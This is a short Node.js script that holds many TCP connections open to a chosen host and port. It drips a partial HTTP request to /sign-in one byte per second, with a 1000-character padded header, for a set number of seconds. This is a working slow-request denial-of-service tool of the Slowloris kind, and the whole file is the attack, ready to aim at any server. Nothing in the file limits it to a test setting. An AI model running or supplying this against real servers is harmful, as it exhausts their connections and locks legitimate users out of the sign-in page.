// Opens CLIENTS connections to HOST:PORT that send one byte of a request each second, for SECONDS.
import { connect } from "node:net";

const [address, clients, seconds] = process.argv.slice(2);
const [host, port] = address.split(":");
const request = `GET /sign-in HTTP/1.1\r\nHost: ${address}\r\nX-Slow: ${"x".repeat(1000)}`;
const sockets = Array.from({ length: Number(clients) }, () => connect(Number(port), host).on("error", () => {}));
let sent = 0;
const drip = setInterval(() => {
  for (const socket of sockets) if (socket.writable) socket.write(request[sent]);
  sent += 1;
}, 1000);
setTimeout(() => {
  clearInterval(drip);
  for (const socket of sockets) socket.destroy();
}, Number(seconds) * 1000);
